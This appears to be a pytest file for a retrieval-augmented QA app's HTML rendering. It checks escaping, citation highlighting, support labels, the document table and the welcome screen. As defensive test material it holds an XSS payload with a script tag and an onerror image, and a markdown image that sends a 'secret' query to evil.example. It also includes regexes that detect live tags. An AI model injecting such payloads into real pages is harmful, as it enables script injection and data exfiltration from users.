"""What the UI shows: escaping, highlighted spans, support marks, no remote content (fast, no Gradio server)."""

from __future__ import annotations

import re

from rag.indexing.catalog import DocumentInfo
from rag.types import Answer, Chunk, Citation, Hit, Sentence
from ui.render import (
    highlight,
    render_answer,
    render_sentence,
    render_source_card,
    render_sources,
    render_stopped,
    render_streaming,
    render_trace,
)
from ui.render_copy import plain_answer, render_copy
from ui.render_documents import render_documents
from ui.render_welcome import example_questions, render_welcome

HOSTILE = '<script>window.__xss=1</script><img src=x onerror="window.__xss=2">'
PASSAGE = "Le musée a reçu 12 000 visiteurs en 2023. " + HOSTILE + " Il ferme le lundi."
CHUNK_START = 100  # offsets are into the document, the chunk starts further in


def hit(text: str = PASSAGE, title: str = "Musée " + HOSTILE, source: str = "/data/uploads/a<b>.md", **extra) -> Hit:
    chunk = Chunk("doc1", CHUNK_START, CHUNK_START + len(text), text)
    fields = {"lexical_rank": 1, "dense_rank": 3, "relevance": 0.8, "date": "2024-05", **extra}
    return Hit(chunk, 0.0321, source, title, **fields)


def citation(h: Hit, phrase: str, verification: str = "supported", n: int = 1) -> Citation:
    start = CHUNK_START + h.chunk.text.index(phrase)
    return Citation(n, h, start, start + len(phrase), verification)  # type: ignore[arg-type]


def answer(sentences: tuple[Sentence, ...], citations: tuple[Citation, ...], **extra) -> Answer:
    hits = tuple(dict.fromkeys(c.hit for c in citations)) or (hit(),)
    fields = {"timings": {"retrieval": 0.0123, "total": 0.05}, **extra}
    question = fields.pop("question", "Combien ?")
    language = fields.pop("language", "fr")
    return Answer(question, language, sentences, citations, hits, **fields)


def no_live_markup(rendered: str) -> None:
    """Hostile markup may only survive as escaped text, never as a tag or an event attribute."""
    assert not re.search(r"<\s*(script|img|iframe|svg|object)", rendered, re.IGNORECASE)
    assert not re.search(r"<[^>]*\son\w+\s*=", rendered, re.IGNORECASE)


def test_document_text_title_and_file_name_are_escaped_in_source_cards() -> None:
    h = hit()
    card = render_source_card(1, h, [citation(h, "12 000 visiteurs")], turn=1)
    no_live_markup(card)
    assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in card
    assert '<span class="rag-title">Musée &lt;script&gt;' in card
    assert "&lt;img src=x onerror=&quot;window.__xss=2&quot;&gt;" in card
    assert "a&lt;b&gt;.md" in card and "<b>.md" not in card
    assert 'id="t1-src-1"' in card and "2024-05" in card


def test_cited_span_is_highlighted_at_its_exact_offsets() -> None:
    h = hit()
    card = render_source_card(1, h, [citation(h, "12 000 visiteurs en 2023")], turn=1)
    assert '<mark class="rag-supported">12 000 visiteurs en 2023</mark>' in card
    assert "reçu <mark" in card


def test_highlight_escapes_inside_and_outside_marks_and_merges_overlaps() -> None:
    text = "a <b> c & d"
    rendered = highlight(text, [(2, 5, "supported"), (4, 7, "weak"), (50, 60, "supported")])
    assert rendered == '<p>a <mark class="rag-supported">&lt;b&gt; c</mark> &amp; d</p>'


def test_highlight_keeps_separate_spans_apart() -> None:
    rendered = highlight("one two three", [(8, 13, "weak"), (0, 3, "supported")])
    assert rendered == '<p><mark class="rag-supported">one</mark> two <mark class="rag-weak">three</mark></p>'


def test_weak_and_unsupported_sentences_are_marked_visibly() -> None:
    h = hit()
    weak = citation(h, "Il ferme le lundi.", "weak")
    rendered = render_answer(
        answer(
            (Sentence("Il a reçu 12 000 visiteurs.", (1,), "weak"), Sentence("Il est gratuit.", (), "unsupported")),
            (weak,),
        ),
        turn=2,
    )
    assert "weak support" in rendered and "not supported" in rendered
    assert '<a class="rag-cite" href="#t2-src-1">[1?]</a>' in rendered
    card = render_source_card(1, h, [weak], turn=2)
    assert "weak support" in card and '<mark class="rag-weak">' in card


def test_supported_answer_links_each_marker_to_its_source_card() -> None:
    h = hit()
    cited = citation(h, "12 000 visiteurs")
    final = answer((Sentence("Le musée a reçu 12 000 visiteurs.", (1,)),), (cited,))
    rendered = render_answer(final, turn=3)
    assert '<a class="rag-cite" href="#t3-src-1">[1]</a>' in rendered
    assert "weak support" not in rendered and "not supported" not in rendered
    sources = render_sources(final, turn=3)
    assert 'id="t3-src-1"' in sources and "<mark" in sources
    no_live_markup(sources)


def test_markdown_images_and_img_tags_in_answers_are_removed() -> None:
    text = "Voir ![logo](https://evil.example/t.png?q=secret) et <img src='https://evil.example/p.gif'> ici."
    final = answer((Sentence(text, (1,)),), (citation(hit(), "12 000"),))
    for rendered in (render_answer(final, turn=1), render_streaming(text)):
        assert "evil.example" not in rendered and "![" not in rendered
        no_live_markup(rendered)
        assert "Voir" in rendered and "ici." in rendered


def test_a_footnote_of_the_document_in_a_quoted_sentence_stays_text() -> None:
    rendered = render_sentence(Sentence("Le traité fut signé en 1958 [3].", (1,)), turn=4)
    assert "[3]" in rendered and 'href="#t4-src-3"' not in rendered and 'href="#t4-src-1"' in rendered


def test_abstention_is_shown_as_such_with_the_closest_passages() -> None:
    hits = tuple(hit(text=f"Passage {i} sans réponse.", title=f"Doc {i}") for i in range(5))
    final = Answer("Q ?", "fr", (), (), hits, abstained=True, message="Les documents ne répondent pas.")
    rendered = render_answer(final, turn=1)
    assert "No answer in your documents" in rendered and "Les documents ne répondent pas." in rendered
    sources = render_sources(final, turn=1)
    assert "Closest passages" in sources
    assert sources.count('class="rag-source"') == 3


def test_generator_failure_is_one_escaped_line() -> None:
    final = Answer("Q ?", "fr", (), (), (hit(),), abstained=True, message="x", error="Server <down>: start it.")
    rendered = render_answer(final, turn=1)
    assert '<div class="rag-error">Server &lt;down&gt;: start it.</div>' in rendered


def test_trace_shows_rewritten_question_ranks_scores_and_timings() -> None:
    final = answer((Sentence("S.", (1,)),), (citation(hit(), "12 000"),), rewritten_question="Et <le> musée ?")
    trace = render_trace(final)
    assert trace.startswith("<details") and "Et &lt;le&gt; musée ?" in trace
    assert "<td>1</td><td>1</td><td>3</td><td>0.0321</td><td>0.80</td>" in trace
    assert "retrieval 12 ms" in trace and "total 50 ms" in trace
    no_live_markup(trace)


def test_documents_table_escapes_titles_and_file_names() -> None:
    info = DocumentInfo("d1", "Titre " + HOSTILE, None, ("/data/uploads/<i>x.md",), 3, "fr")
    table = render_documents([info])
    no_live_markup(table)
    assert "&lt;i&gt;x.md" in table and "<td>3</td>" in table
    # Each row's Remove button says which document it removes, as escaped text.
    assert 'data-doc-id="d1"' in table and ">Remove</button>" in table
    assert 'aria-labelledby="rag-doc-d1-remove rag-doc-d1-title rag-doc-d1-file"' in table
    assert 'id="rag-doc-d1-title">Titre &lt;script&gt;' in table and 'id="rag-doc-d1-file"' in table


def test_an_answer_quoted_in_another_language_than_the_question_says_so() -> None:
    h = hit(language="fr")
    cited = citation(h, "12 000 visiteurs")
    sentence = (Sentence("Le musée a reçu 12 000 visiteurs en 2023.", (1,)),)
    asked = answer(sentence, (cited,), question="How many visitors did the museum have?", language="en")
    assert "Quoted from your documents, which are in French." in render_answer(asked, turn=1)
    french = render_answer(answer(sentence, (cited,), question="Combien de visiteurs le musée a-t-il reçus ?"), turn=1)
    assert "Quoted from" not in french


def test_copy_is_the_answer_as_plain_text_with_numbered_sources_and_inert_html() -> None:
    h = hit(page=3)
    cited = citation(h, "12 000 visiteurs en 2023")
    shown = answer((Sentence("Le musée a reçu 12 000 visiteurs en 2023.", (1,), "supported"),), (cited,))
    text = plain_answer(shown)
    assert (
        text == (f"{shown.text}\n\nSources:\n[1] Musée {HOSTILE} (2024-05) — a<b>.md, page 3") and "[1]" in shown.text
    )
    block = render_copy(shown)
    no_live_markup(block)
    assert "&lt;script&gt;" in block and '<button type="button" class="rag-copy-button">Copy answer</button>' in block


def test_a_stopped_answer_keeps_its_text_escaped_and_says_it_was_not_checked() -> None:
    rendered = render_stopped("Le musée " + HOSTILE)
    no_live_markup(rendered)
    assert "rag-stopped" in rendered and "Stopped." in rendered and "not checked" in rendered


def test_sources_panel_is_titled_with_its_question_and_each_citation_carries_its_span() -> None:
    h = hit()
    cited = citation(h, "12 000 visiteurs en 2023")
    final = answer(
        (Sentence("Le musée a reçu 12 000 visiteurs en 2023.", (1,), "supported"),),
        (cited,),
        question="Combien de visiteurs <b>?",
    )
    sources = render_sources(final, turn=2)
    assert '<p class="rag-sources-for">for “Combien de visiteurs &lt;b&gt;?”</p>' in sources
    rendered = render_answer(final, turn=2)
    no_live_markup(rendered)
    tip = re.search(r'<span class="rag-cite-tip">(.*?)</span></span>', rendered)
    assert tip and "« 12 000 visiteurs en 2023 »" in tip.group(1) and "Musée &lt;script&gt;" in tip.group(1)
    assert '<a class="rag-cite" href="#t2-src-1">[1]</a>' in rendered


def test_a_document_title_line_is_not_repeated_under_the_cards_title() -> None:
    text = "# Port de Brest\n\nLe port a accueilli 4 200 escales en 2022."
    first = Hit(Chunk("doc2", 0, len(text), text), 0.1, "/uploads/brest.md", "Port de Brest")
    card = render_source_card(1, first, [], turn=1)
    assert card.count("Port de Brest") == 1 and "<p>Le port a accueilli" in card
    cited = Citation(1, first, 0, 15)  # a span in the title line keeps it
    assert "<mark" in render_source_card(1, first, [cited], turn=1).split("rag-passage")[1]


def test_empty_state_names_what_is_indexed_and_asks_in_each_documents_language() -> None:
    documents = [
        DocumentInfo("a", "Port de Brest", "2022-01", ("/d/brest.md",), 2, "fr"),
        DocumentInfo("b", "Quantum labs " + HOSTILE, "2024-02", ("/d/q.md",), 3, "en"),
        DocumentInfo("c", "Sans titre coupé au milieu…", None, ("/d/c.txt",), 1, "fr"),
        DocumentInfo("d", "Old news", "2001", ("/d/o.txt",), 1, "und"),
    ]
    questions = example_questions(documents)
    assert questions == [
        questions[0],  # (its hostile title is cut to a question's length, checked below)
        "Que disent mes documents sur « Port de Brest » ?",
        "What do my documents say about “Old news”?",
    ]
    assert questions[0].startswith("What do my documents say about “Quantum labs")
    welcome = render_welcome(documents)
    no_live_markup(welcome)
    assert "<b>4 documents indexed</b> (among them): <i>Quantum labs" in welcome and "Documents tab" in welcome
    assert "No documents are indexed yet" in render_welcome([])
    # No question about a file's name: an untitled document is named by it, and asked nothing.
    untitled = DocumentInfo("e", "003_c00ce55952bfa148", "2030", ("/d/003_c00ce55952bfa148.txt",), 4, "fr")
    assert example_questions([untitled, *documents]) == questions
    assert "<i>Port de Brest</i>, <i>003_c00ce55952bfa148</i><br>" in render_welcome([untitled, documents[0]])


def test_passages_read_but_not_cited_fold_under_the_cited_ones() -> None:
    cited_hit, other = hit(), hit(text="Une autre phrase sur le port.", title="Autre")
    sentences = (Sentence("Le musée a reçu 12 000 visiteurs en 2023.", (1,), "supported"),)
    final = Answer("Combien ?", "fr", sentences, (citation(cited_hit, "12 000 visiteurs en 2023"),), (cited_hit, other))
    sources = render_sources(final, turn=1)
    cited_part, _, folded = sources.partition('<details class="rag-more">')
    assert 'id="t1-src-1"' in cited_part and "Autre" not in cited_part
    assert "<summary>1 other passage read, not cited</summary>" in folded and 'id="t1-src-2"' in folded


def test_documents_table_shows_language_and_filters_by_title_or_file_name() -> None:
    documents = [
        DocumentInfo("a", "Port de Brest", "2022-01", ("/d/brest.md",), 2, "fr"),
        DocumentInfo("b", "Quantum labs", "2024-02", ("/d/q.md",), 3, "en"),
        DocumentInfo("c", "Sans langue", None, ("/d/BREST-notes.txt",), 1, "und"),
    ]
    table = render_documents(documents)
    assert "<th>Lang.</th>" in table and '<td title="French">fr</td>' in table
    assert '<td title="language not recognised">—</td>' in table and "<caption>3 documents</caption>" in table
    brest = render_documents(documents, " brest ")
    assert "Port de Brest" in brest and "Sans langue" in brest and "Quantum labs" not in brest
    assert "<caption>2 of 3 documents match “brest”</caption>" in brest
    assert "&lt;b&gt;" in render_documents(documents, "<b>")
